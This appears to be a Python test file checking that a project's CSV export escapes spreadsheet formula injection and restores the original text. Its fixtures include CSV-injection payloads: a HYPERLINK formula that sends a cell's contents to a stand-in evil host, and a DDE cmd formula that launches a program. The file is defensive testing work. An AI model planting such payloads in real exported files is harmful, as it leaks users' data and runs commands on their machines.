"""No cell of a table that we write is a formula, and its text comes back."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from emde_core.data.csv_text import csv_text, original_text, plain_cell

ROOT = Path(__file__).parents[2]
FORMULAS = (
    *("=1+1", "+1", "-1", "@x", "\tx", "\rx", "\n=1", "＝1", "＋1", "－1", "＠x"),
    *('=HYPERLINK("http://evil.invalid?x="&A1,"open")', "=cmd|' /C calc'!A0", " =1+1", "\ufeff=1", "\x00=1", "''=1"),
    "'\t'=1",
)
SIGNS = st.text(st.sampled_from("=+-@＝\t\r\n ;'\",a1\ufeff\x00"), max_size=12)
IS_FORMULA = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")


def is_formula(cell):
    """Tell whether a spreadsheet begins a formula with a cell."""
    return IS_FORMULA.match(cell) is not None


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_text(cell):
    assert is_formula(cell) or cell.startswith("'"), "the control"
    assert not is_formula(plain_cell(cell))
    assert original_text(plain_cell(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "M*A*S*H",
        "'90s",
        "1-2",
        "a=b",
        "Up",
        "don't",
        "'",
        "2001: A Space Odyssey; 1968",
        "she wrote; =1+1",
        "A\n-1",
        "A\t=1",
    ],
)
def test_other_text_stays_as_it_is(cell):
    assert plain_cell(cell) == cell
    assert original_text(cell) == cell


@given(SIGNS)
def test_any_text_comes_back_and_is_no_formula(cell):
    assert original_text(plain_cell(cell)) == cell
    assert not is_formula(plain_cell(cell))


@given(st.lists(SIGNS, min_size=1, max_size=5))
def test_a_table_has_the_rows_and_cells_that_it_was_given(cells):
    text = csv_text(pd.DataFrame({"n": range(len(cells)), "cell": cells}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [original_text(cell) for _, cell in rows[1:]] == cells
    assert all(not is_formula(cell) for row in rows for cell in row)


def test_a_number_is_a_number_whatever_its_sign():
    table = pd.DataFrame(
        {
            "=kind": pd.Categorical(["=a", "b"]),
            "score": [-0.5, np.nan],
            "rank": pd.array([-1, None], "Int64"),
            "mixed": [-2, "-2"],
            "text": pd.array(["-3", None], "string"),
            "simulated": [True, False],
        }
    )
    assert csv_text(table) == (
        "'=kind,score,rank,mixed,text,simulated\r\n'=a,-0.5,-1,-2,'-3,True\r\nb,,,'-2,,False\r\n"
    )
    assert table.columns[0] == "=kind", "the table itself stays as it is"


def test_no_other_place_writes_csv():
    writers = {}
    for path in (*(ROOT / "emde_core").rglob("*.py"), *(ROOT / "dashboard").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {node.attr for node in ast.walk(tree) if isinstance(node, ast.Attribute)}
        names |= {alias.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) for alias in node.names}
        if some := names & {"to_csv", "writer", "DictWriter", "to_clipboard", "to_excel"}:
            writers[str(path.relative_to(ROOT))] = some
    assert writers == {"emde_core/data/csv_text.py": {"to_csv"}}


def test_no_script_of_a_page_writes_csv():
    scripts = [path for path in (ROOT / "dashboard").rglob("*.js") if "csv" in path.read_text(encoding="utf-8").lower()]
    assert scripts == []
